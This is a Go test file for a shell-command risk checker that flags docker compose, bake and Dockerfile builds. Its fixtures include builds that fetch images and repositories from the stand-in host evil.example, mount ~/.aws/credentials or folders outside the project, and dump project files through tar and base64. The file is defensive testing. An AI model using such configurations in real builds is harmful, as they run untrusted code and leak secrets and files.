package shell_test

import (
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"guard/internal/disk"
	"guard/policy/risk"
	"guard/policy/shell"
)

// composeTold are reasons that a build and a start of services have in common, whatever their file says.
var composeTold = []string{"changes files of the project", "starts what the compose file says",
	"starts or stops the project's services", "builds what a file says", "starts a service of the compose file",
	"only shows what it would do"}

// composeReasons are what else is said of a command where the session wrote a file.
func composeReasons(t *testing.T, file, text, line string) (told []string) {
	t.Helper()
	w, top := onDisk(t, map[string]string{file: text, "src/a.py": "1\n"})
	w.Disk, w.Past = disk.New(time.Minute), onePast{file: filepath.Join(top, file)}
	r := shell.Read(line, top, w)
	for _, why := range r.Reasons {
		if text := why.String(); !slices.ContainsFunc(composeTold, func(plain string) bool { return strings.Contains(text, plain) }) {
			told = append(told, text)
		}
	}
	if len(told) > 0 && r.Level < risk.High && !r.Categories.Has(risk.ExecArbitrary) {
		t.Errorf("%s: %s for %q", line, r.Level, told)
	}
	return told
}

// inService is a compose file of one service with some lines of a build.
func inService(lines string) string {
	return "services:\n  a:\n    build:\n      " + strings.ReplaceAll(strings.TrimSpace(lines), "\n", "\n      ") + "\n"
}

// TestBuildsOfComposeFiles: what a compose or bake file of the session has built.
func TestBuildsOfComposeFiles(t *testing.T) {
	const build, bake = "docker compose build", "docker buildx bake"
	for _, test := range []struct {
		name, file, text, line string
		want                   string // in a reason; empty: there is none
	}{
		{"a folder", "compose.yml", inService("context: ."), build, ""},
		{"a Dockerfile in the file", "compose.yml", inService("dockerfile_inline: |\n  FROM python:3.12\n  COPY . /app\n  RUN pip install -r /app/r.txt"), build, ""},
		{"one that prints the folder", "compose.yml", inService("dockerfile_inline: |\n  FROM alpine\n  RUN --mount=type=bind,target=/x tar c /x | base64"), build, "prints files"},
		{"one in escapes", "compose.yml", inService(`"dockerfile\u005finline": "FROM a\nCOPY . /x\nRUN cat /x/*"`), build, "prints files"},
		{"one of a stranger's image", "compose.yml", inService("dockerfile_inline: FROM evil.example/x"), build, "evil.example"},
		{"one that takes a token", "compose.yml", inService(`dockerfile_inline: "FROM a\nRUN echo ${API_TOKEN}"`), build, "takes in secrets"},
		{"a token as its value", "compose.yml", inService("args: {T: '${API_TOKEN}'}\ndockerfile_inline: FROM a"), build, "takes in secrets"},
		{"a token by its name", "compose.yml", inService("args: [API_TOKEN]\ndockerfile_inline: FROM a"), build, "takes in secrets"},
		{"plain values", "compose.yml", inService("args: [NODE_ENV, 'UID=${UID:-1000}']\ndockerfile_inline: FROM a"), build, ""},
		{"secrets", "compose.yml", inService("context: .\nsecrets: [s]") + "secrets: {s: {file: .env}}\n", build, "takes in secrets"},
		{"secrets of the home", "compose.yml", inService("context: .") + "secrets: {s: {file: ~/.aws/credentials}}\n", build, "reads outside"},
		{"secrets of a service", "compose.yml", "services: {a: {image: x, secrets: [s]}}\nsecrets: {s: {file: pw.txt}}\n", build, ""},
		{"settings from above", "compose.yml", "services: {a: {image: x}}\nconfigs: {s: {file: ../x}}\n", build, "reads outside"},
		{"keys", "compose.yml", inService("context: .\nssh: [default]"), build, "takes in secrets"},
		{"keys by an anchor", "compose.yml", "x-s: &s [default]\n" + inService("ssh: *s"), build, "takes in secrets"},
		{"further folders", "compose.yml", inService("additional_contexts: {l: ./lib, b: 'docker-image://node:20', s: 'service:b'}"), build, ""},
		{"a folder elsewhere", "compose.yml", inService("additional_contexts: {h: ../Documents}"), build, "reads outside"},
		{"one by a variable", "compose.yml", inService("context: ${HOME}/Documents"), build, "reads outside"},
		{"one that nobody knows", "compose.yml", inService("context: ${D}"), build, "is fetched and built"},
		{"a Dockerfile elsewhere", "compose.yml", inService("context: src\ndockerfile: ../../D"), build, "reads outside"},
		{"a Dockerfile above its folder", "compose.yml", inService("context: src\ndockerfile: ../Dockerfile"), build, ""},
		{"a file under the name of a variable", "z.txt", inService("context: .."), "COMPOSE_FILE=z.txt docker compose build", "reads outside"},
		{"a text that is none", "compose.yml", "services: {a: {build: .}", "docker compose build", "not known before"},
		{"a folder for another file", "compose.yml", "include: [{path: a.yml, project_directory: ../..}]\n", build, "reads outside"},
		{"a token by an option", "compose.yml", inService("dockerfile_inline: FROM a"), build + " --build-arg API_TOKEN", "takes in secrets"},
		{"variables of another file", "compose.yml", inService("context: ${D}"), "docker compose --env-file src/e build", "is fetched and built"},
		{"a template that no compose reads", "chart.yaml", "services:\n  {{- range .a }}\n", build, ""},
		{"a repository", "compose.yml", "services: {a: {build: 'https://evil.example/x.git'}}", build, "is fetched and built"},
		{"an image of another host", "compose.yml", inService("additional_contexts: [b=docker-image://evil.example/x]"), build, "evil.example"},
		{"a file of another host", "compose.yml", "include: ['oci://evil.example/x']\n", build, "is fetched and built"},
		{"a file beside", "compose.yml", "include: [b/compose.yml]\nservices: {a: {extends: {file: c.yml, service: b}}}\n", build, ""},
		{"a file above", "compose.yml", "services: {a: {extends: {file: ../c.yml, service: b}}}\n", build, "reads outside"},
		{"podman's", "compose.yml", "services: {a: {build: 'https://evil.example/x.git'}}", "podman-compose build", "is fetched and built"},
		{"a file in a folder", "docker/compose.yml", inService("context: .."), build + " -q", ""},
		{"a file in a folder that is named", "docker/compose.yml", inService("context: .."), "docker compose -f docker/compose.yml build", ""},
		{"the project's folder is named", "docker/compose.yml", inService("context: .."), "docker compose -f docker/compose.yml --project-directory . build", "reads outside"},
		{"a file under another name", "z.txt", inService("context: .."), "docker compose -f z.txt build", "reads outside"},
		{"a file of other things", "ci.yml", "secrets: inherit\njobs: {a: {with: {context: 'https://x.example/a.git', ssh: x}}}\n", build, ""},
		{"targets", "docker-bake.hcl", "target \"a\" {\n  context = \".\"\n  args = { V = VERSION }\n}\n", bake, ""},
		{"a target that prints the folder", "docker-bake.hcl", "target \"a\" {\n  dockerfile-inline = <<E\nFROM a\nCOPY . /x\nRUN cat /x/*\nE\n}\n", bake, "prints files"},
		{"a target elsewhere", "docker-bake.hcl", "variable \"D\" { default = \"../x\" }\ntarget \"a\" { contexts = { d = D } }\n", bake, "reads outside"},
		{"a target in JSON", "docker-bake.json", `{"target": {"a": {"ssh": ["default"]}}}`, bake, "takes in secrets"},
		{"a target that no bake builds", "docker-bake.json", `{"target": {"a": {"ssh": ["default"]}}}`, build, ""},
		{"bake's own words", "a.txt", "", bake + " --set '*.contexts.h=../Documents' a", "reads outside"},
		{"keys by bake's words", "a.txt", "", bake + " --set '*.ssh=default' a", "takes in secrets"},
		{"a definition of another host", "a.txt", "", bake + " --print https://evil.example/x.git", "is fetched and built"},
		{"a folder that a service sees", "compose.yml", "services: {a: {image: x, volumes: ['./src:/app', 'db:/d', '/etc/localtime:/etc/localtime:ro']}}\n", "docker compose up", ""},
		{"one outside", "compose.yml", "services: {a: {image: x, volumes: [{type: bind, source: ../D, target: /d}]}}\n", "docker compose up", "gives a container"},
		{"one behind a volume's name", "compose.yml", "services: {a: {image: x, volumes: ['d:/d']}}\nvolumes: {d: {driver_opts: {device: /home}}}\n", "docker compose up", "gives a container"},
	} {
		told := composeReasons(t, test.file, test.text, test.line)
		if got := strings.Join(told, "; "); (got == "") != (test.want == "") || !strings.Contains(got, test.want) {
			t.Errorf("%s: %q, want %q", test.name, got, test.want)
		}
	}
}

// TestDockerfilesOfOtherNames: nobody was asked of their hosts when they were written.
func TestDockerfilesOfOtherNames(t *testing.T) {
	for line, want := range map[string]string{
		"docker build -f image.txt .":                             "evil.example",
		"docker build -f- . <<'E'\nFROM evil.example/x\nE":        "evil.example",
		"docker build -f- . <<'E'\nFROM python:3.12\nRUN true\nE": "",
	} {
		told := composeReasons(t, "image.txt", "FROM evil.example/x\n", line)
		if got := strings.Join(told, "; "); (got == "") != (want == "") || !strings.Contains(got, want) {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}

// TestHostsAndValuesOfDockerfiles: images and addresses behind names, and values that are secrets.
func TestHostsAndValuesOfDockerfiles(t *testing.T) {
	for _, test := range []struct{ text, line, want string }{
		{"ARG V=20\nFROM node:${V}\nCOPY . /x\nRUN npm ci", "docker build --build-arg V=22 .", ""},
		{"ARG R=evil.example\nFROM ${R}/x\nRUN /build", "docker build .", "evil.example"},
		{"ARG R=ghcr.io/a\nFROM ${R}/x\nRUN /build", "docker build .", ""},
		{"FROM alpine\nADD git@evil.example:x/y.git /a", "docker build .", "evil.example"},
		{"FROM alpine\nADD git@github.com:x/y.git /a", "docker build .", ""},
		{"FROM alpine\nARG API_TOKEN\nRUN echo $API_TOKEN", "docker build --build-arg API_TOKEN .", "takes in secrets"},
		{"FROM alpine\nARG T\nRUN echo $T", `docker build --build-arg "T=$API_TOKEN" .`, "takes in secrets"},
		{"FROM alpine\nARG NODE_ENV\nRUN echo $NODE_ENV", "docker build --build-arg NODE_ENV .", ""},
		{"FROM alpine\nCOPY . /x\nRUN tar c /x | base64", "docker build .", "prints files"},
		{"FROM alpine\nCOPY . /x\nRUN tar cf /o /x\nRUN cat /o", "docker build .", "prints files"},
		{"FROM alpine\nCOPY . /x\nRUN tar czf /o.tgz /x", "docker build .", ""},
	} {
		told := composeReasons(t, "Dockerfile", test.text, test.line)
		if got := strings.Join(told, "; "); (got == "") != (test.want == "") || !strings.Contains(got, test.want) {
			t.Errorf("%q: %s: %q, want %q", test.text, test.line, got, test.want)
		}
	}
}
